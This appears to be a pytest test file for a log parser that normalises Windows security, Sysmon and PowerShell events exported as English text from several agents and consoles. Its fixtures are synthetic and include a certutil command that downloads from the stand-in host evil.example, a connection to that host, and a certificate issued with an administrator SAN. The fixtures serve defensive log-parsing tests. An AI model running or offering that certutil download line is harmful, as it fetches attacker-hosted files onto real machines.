"""Windows events whose data stand in their English text: agents, consoles and exports that give nothing else.

Texts follow Microsoft's *Windows security auditing* pages and Sysmon's; values are our own.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from vendor_rows import rows_of

LINED = (
    "A new process has been created.\n\nCreator Subject:\n\tSecurity ID:\t\tS-1-5-18\n\tAccount Name:\t\tPC1$\n"
    "\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x3E7\n\nTarget Subject:\n\tSecurity ID:\t\tS-1-0-0\n"
    "\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n\tLogon ID:\t\t0x0\n\nProcess Information:\n"
    "\tNew Process ID:\t\t0x1f4\n\tNew Process Name:\tC:\\Program Files\\x\\certutil.exe\n"
    "\tToken Elevation Type:\tTokenElevationTypeDefault (1)\n\tMandatory Label:\t\tS-1-16-8192\n"
    "\tCreator Process ID:\t0x2a\n\tCreator Process Name:\tC:\\Windows\\cmd.exe\n"
    '\tProcess Command Line:\tcertutil -f "Status: a" https://evil.example/x\n\n'
    "Token Elevation Type indicates the type of token that was assigned to the new process.\n\nType 1 is a full token."
)
FLAT = " ".join(LINED.split())
STARTED = {
    "source": "windows.security.process", "event_id": "4688", "process": r"C:\Program Files\x\certutil.exe", "pid": 500,
    "parent_process": r"C:\Windows\cmd.exe", "parent_pid": 42, "user": r"CORP\PC1$", "computer": "PC1.corp.example",
    "command_line": 'certutil -f "Status: a" https://evil.example/x',
}  # fmt: skip
SYSMON = (
    "Network connection detected:  RuleName: -  UtcTime: 2026-09-21 14:13:20.500  ProcessGuid: {0}  ProcessId: 77  "
    "Image: C:\\tools\\a b.exe  User: CORP\\bob  Protocol: tcp  Initiated: true  SourceIsIpv6: false  "
    "SourceIp: 192.0.2.9  SourceHostname: PC1  SourcePort: 50000  SourcePortName: -  DestinationIsIpv6: false  "
    "DestinationIp: 203.0.113.7  DestinationHostname: evil.example  DestinationPort: 443  DestinationPortName: https"
)
CONNECTED = {
    "source": "windows.sysmon.connection", "process": r"C:\tools\a b.exe", "pid": 77, "user": r"CORP\bob",
    "src_ip": "192.0.2.9", "src_port": 50000, "dst_ip": "203.0.113.7", "dst_port": 443, "dst_host": "evil.example",
    "time": "2026-09-21T14:13:20.500000Z",
}  # fmt: skip
LOGON = (
    "An account was successfully logged on. Subject: Security ID: S-1-0-0 Account Name: - Account Domain: - Logon ID: "
    "0x0 Logon Type: 3 New Logon: Security ID: S-1-5-21-1 Account Name: bob Account Domain: CORP Logon ID: 0xab Logon "
    "GUID: {0} Process Information: Process ID: 0x0 Process Name: - Network Information: Workstation Name: PC7 Source "
    "Network Address: 192.0.2.9 Source Port: 50123 Detailed Authentication Information: Logon Process: Kerberos"
)
CAME = {"source": "windows.security.logon", "target_user": "bob", "src_ip": "192.0.2.9", "src_port": 50123}
TICKET = (
    "A Kerberos authentication ticket (TGT) was requested.\n\nAccount Information:\n\tAccount Name:\t\tadmin\n"
    "\tSupplied Realm Name:\tCORP\n\tUser ID:\t\t\tS-1-5-21-1\n\nService Information:\n\tService Name:\t\tkrbtgt\n\n"
    "Network Information:\n\tClient Address:\t\t::ffff:192.0.2.9\n\tClient Port:\t\t50123\n\n"
    "Additional Information:\n\tTicket Options:\t\t0x40\n\tResult Code:\t\t0x0\n\tPre-Authentication Type:\t16\n\n"
    "Certificate Information:\n\tCertificate Issuer Name:\t\tCORP-CA\n\tCertificate Serial Number:\t0A00FF\n"
    "\tCertificate Thumbprint:\t\t0123456789ABCDEF0123456789ABCDEF01234567\n\n"
    "Certificate information is only provided if a certificate was used for pre-authentication."
)
CERTIFIED = {
    "source": "windows.security.kerberos", "user": "admin", "src_ip": "192.0.2.9", "src_port": 50123,
    "cert_issuer": "CORP-CA", "cert_serial": "a00ff", "cert_sha1": "0123456789abcdef0123456789abcdef01234567",
}  # fmt: skip
ISSUED = (
    "Certificate Services approved a certificate request and issued a certificate.\n\nRequest ID:\t7\n"
    "Requester:\tCORP\\mallory\nAttributes:\tCertificateTemplate:User\nSAN:upn=admin@corp.example\nDisposition:\t3\n"
    "SKI:\t\t01 02\nSubject:\tCN=mallory"
)
GRANTED = {
    "source": "windows.security.certificate_services", "user": r"CORP\mallory", "cert_subject": "CN=mallory",
    "target_user": "upn=admin@corp.example", "outcome": "allow",
}  # fmt: skip


def snare(channel: str, number: int, message: str, tab: str = "\t") -> str:
    cells = ("MSWinEventLog", "1", channel, "17", "Mon Sep 21 14:13:21 2026", str(number), "Windows", "SYSTEM", "User",
             "Success Audit", "PC1.corp.example", "Category", "", message, "17")  # fmt: skip
    return f"<13>Sep 21 14:13:22 PC1 {tab.join(cells)}\n"


def wincollect(message: str, number: int, tab: str = "\t") -> str:
    cells = ("AgentDevice=WindowsLog", "AgentLogFile=Security", "PluginVersion=7.2.9",
             "Source=Microsoft-Windows-Security-Auditing", "Computer=PC1.corp.example", "OriginatingComputer=192.0.2.9",
             "User=", "Domain=", f"EventID={number}", f"EventIDCode={number}", "EventType=8", "EventCategory=13312",
             "RecordNumber=5", "TimeGenerated=1790000001", "TimeWritten=1790000001", f"Message={message}")  # fmt: skip
    return f"<13>Sep 21 14:13:22 192.0.2.9 {tab.join(cells)}\n"


def splunk(message: str, number: int) -> str:
    return (
        "09/21/2026 02:13:21 PM\nLogName=Security\nSourceName=Microsoft Windows security auditing.\n"
        f"EventCode={number}\nEventType=0\nType=Information\nComputerName=PC1.corp.example\nTaskCategory=x\n"
        f"OpCode=Info\nRecordNumber=5\nKeywords=Audit Success\nMessage={message}\n"
    )


def from_powershell(message: str, number: int, **more: Any) -> dict[str, Any]:
    return {
        "Id": number, "Version": 2, "Level": 0, "ProviderName": "Microsoft-Windows-Security-Auditing",
        "LogName": "Security", "ProcessId": 4, "ThreadId": 9, "MachineName": "PC1.corp.example", "UserId": None,
        "TimeCreated": "/Date(1790000001123)/", "Message": message, **more,
    }  # fmt: skip


def cells(row: dict[str, Any]) -> str:
    return ",".join('"{}"'.format(str(value).replace('"', '""')) for value in row.values())


CASES: dict[str, tuple[str, dict[str, Any]]] = {
    "snare": (snare("Security", 4688, FLAT), STARTED | {"time": "2026-09-21T14:13:21Z", "time_zone_known": False}),
    "snare with escaped tabs": (snare("Security", 4688, FLAT, "#011"), STARTED),
    "snare sysmon": (snare("Microsoft-Windows-Sysmon/Operational", 3, SYSMON), CONNECTED),
    "wincollect": (wincollect(FLAT, 4688), STARTED | {"time_zone_known": True}),
    "wincollect with lines": (wincollect(TICKET.replace("\n", " "), 4768), CERTIFIED),
    "wincollect between blanks": (wincollect(LOGON, 4624, " "), CAME),
    "wincollect with words for tabs": (wincollect(LOGON, 4624, "\\t"), CAME),
    "wincollect leef": (
        "<13>Sep 21 14:13:22 PC1 LEEF:1.0|Microsoft|Windows|10|4624|devTime=2026-09-21T14:13:21.123+02:00\t"
        f"cat=Success Audit\tresource=PC1.corp.example\tusrName=bob\tsrc=192.0.2.9\tmessage={LOGON}\n",
        CAME | {"time": "2026-09-21T12:13:21.123000Z", "event_id": "4624"},
    ),
    "splunk": (splunk(LINED, 4688), STARTED | {"time": "2026-09-21T14:13:21Z", "time_zone_known": False}),
    "splunk certificate request": (splunk(ISSUED, 4887), GRANTED),
    "splunk export": (
        json.dumps({"result": {"_raw": splunk(LINED, 4688), "_time": "2026-09-21T16:13:21.000+02:00"}}) + "\n",
        STARTED | {"time": "2026-09-21T14:13:21Z", "time_zone_known": True},
    ),
    "console json": (json.dumps(from_powershell(LINED, 4688)) + "\n", STARTED | {"time_zone_known": True}),
    "console json 7": (
        json.dumps([from_powershell(TICKET, 4768, TimeCreated="2026-09-21T16:13:21.1234567+02:00")], indent=2),
        CERTIFIED | {"time": "2026-09-21T14:13:21.123456Z"},
    ),
    "console csv": (
        "#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord\n"
        + ",".join(f'"{name}"' for name in from_powershell("", 0)) + "\n"
        + cells(from_powershell(LINED, 4688, TimeCreated="9/21/2026 2:13:21 PM")) + "\n",
        STARTED | {"time": "2026-09-21T14:13:21Z", "time_zone_known": False},
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", CASES)
def test_what_the_text_says_is_read(case: str, tmp_path: Path) -> None:
    text, expected = CASES[case]
    rows, rejected = rows_of(text, tmp_path)
    assert not rejected
    assert len(rows) == 1
    assert {key: rows[0].get(key) for key in expected} == expected


def test_events_in_text_follow_each_other(tmp_path: Path) -> None:
    events = (splunk(LINED, 4688), splunk(LOGON, 4624), splunk(ISSUED, 4886))
    rows, rejected = rows_of("".join(events), tmp_path)
    assert not rejected
    assert [row["event_id"] for row in rows] == ["4688", "4624", "4886"]
    assert [row["line"] for row in rows] == [1 + "".join(events[:n]).count("\n") for n in range(3)]


def test_script_and_command_out_of_text(tmp_path: Path) -> None:
    origin = {"ProviderName": "Microsoft-Windows-PowerShell", "LogName": "Microsoft-Windows-PowerShell/Operational"}
    block = (
        "Creating Scriptblock text (1 of 1):\nNew-SelfSignedCertificate -DnsName x\n\n"
        "ScriptBlock ID: 0a1b2c3d-0000-1111-2222-333344445555\nPath: C:\\x.ps1"
    )
    command = (
        'CommandInvocation(Get-Item): "Get-Item"\n\n\nContext:\n        Severity = Informational\n'
        "        Host Application = powershell.exe -File a\n        User = CORP\\bob\n\n\nUser Data:\n\n"
    )
    made = [from_powershell(block, 4104, **origin), from_powershell(command, 4103, **origin)]
    rows, _ = rows_of("\n".join(map(json.dumps, made)) + "\n", tmp_path)
    by_number = {row["event_id"]: row for row in rows}
    assert by_number["4104"]["script"].strip() == "New-SelfSignedCertificate -DnsName x"
    assert by_number["4104"]["file_path"] == r"C:\x.ps1"
    assert by_number["4103"]["user"] == r"CORP\bob"
    assert by_number["4103"]["command_line"] == "powershell.exe -File a"


def test_tables_of_log_analytics(tmp_path: Path) -> None:
    """``SecurityEvent`` as CSV, ``Event`` with XML, ``WindowsEvent`` with JSON as text, and Velociraptor's spelling."""
    table = (
        "TimeGenerated [UTC],EventID,Channel,Computer,EventSourceName,NewProcessName,NewProcessId,ProcessId,"
        'CommandLine,SubjectUserName,SubjectDomainName,ParentProcessName\n"9/21/2026, 2:13:21.123 PM",4688,Security,'
        "PC1.corp.example,Microsoft-Windows-Security-Auditing,C:\\Program Files\\x\\certutil.exe,0x1f4,0x2a,"
        '"certutil -f ""Status: a"" https://evil.example/x",PC1$,CORP,C:\\Windows\\cmd.exe\n'
    )
    rows, _ = rows_of(table, tmp_path)
    assert {key: rows[0].get(key) for key in STARTED} == STARTED
    assert (rows[0]["time"], rows[0]["time_zone_known"]) == ("2026-09-21T14:13:21.123000Z", True)
    data = {
        "UtcTime": "2026-09-21 14:13:20.500", "Image": r"C:\tools\a b.exe", "ProcessId": "77", "User": r"CORP\bob",
        "SourceIp": "192.0.2.9", "SourcePort": "50000", "DestinationIp": "203.0.113.7", "DestinationPort": "443",
        "DestinationHostname": "evil.example",
    }  # fmt: skip
    xml = "".join(f'<Data Name="{key}">{value}</Data>' for key, value in data.items())
    origin = {"Computer": "PC1", "EventID": 3, "TimeGenerated": "2026-09-21T14:13:21.1234567Z"}
    sysmon = "Microsoft-Windows-Sysmon"
    documents = [
        {**origin, "Source": sysmon, "EventLog": f"{sysmon}/Operational",
         "EventData": f'<DataItem type="System.XmlData"><EventData xmlns="x">{xml}</EventData></DataItem>'},
        {**origin, "Provider": sysmon, "Channel": f"{sysmon}/Operational", "EventData": json.dumps(data)},
        {"System": {"Provider": {"Name": sysmon}, "EventID": {"Value": 3}, "Channel": f"{sysmon}/Operational",
                    "Computer": "PC1", "TimeCreated": {"SystemTime": 1790000001.123}}, "EventData": data},
    ]  # fmt: skip
    for row in rows_of("\n".join(map(json.dumps, documents)) + "\n", tmp_path)[0]:
        assert {key: row.get(key) for key in CONNECTED} == CONNECTED


def test_text_in_another_language_is_kept_and_guessed_at_nowhere(tmp_path: Path) -> None:
    rows, rejected = rows_of(snare("Security", 4688, "Ein neuer Prozess wurde erstellt.  Antragsteller:"), tmp_path)
    assert not rejected
    assert rows[0]["event_id"] == "4688"
    assert "process" not in rows[0]
    assert rows[0]["fields"]["Message"].startswith("Ein neuer")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_objects_as_clixml(encoding: str, tmp_path: Path) -> None:
    said = escape(LINED).replace("\n", "_x000D__x000A_").replace("\t", "_x0009_")
    one = (
        '<Obj RefId="0"><TN RefId="0"><T>System.Diagnostics.Eventing.Reader.EventLogRecord</T></TN><Props>'
        '<I32 N="Id">4688</I32><S N="ProviderName">Microsoft-Windows-Security-Auditing</S><S N="LogName">Security</S>'
        '<I32 N="ProcessId">4</I32><S N="MachineName">PC1.corp.example</S><Nil N="UserId" />'
        '<DT N="TimeCreated">2026-09-21T16:13:21.1234567+02:00</DT><Obj N="Bookmark" RefId="1"><Props /></Obj></Props>'
        f'<MS><S N="Message">{said}</S></MS></Obj>'
    )
    spaces = "http://schemas.microsoft.com/powershell/2004/04"
    whole = f'<Objs Version="1.1.0.1" xmlns="{spaces}">\n  {one}\n  {one}\n</Objs>'
    rows, rejected = rows_of(whole.encode(encoding), tmp_path)
    assert not rejected
    assert len(rows) == 2
    expected = STARTED | {"time": "2026-09-21T14:13:21.123456Z", "time_zone_known": True}
    assert {key: rows[0].get(key) for key in expected} == expected
    rows, rejected = rows_of(whole[:-200].encode(encoding), tmp_path)
    assert (len(rows), len(rejected)) == (1, 1)
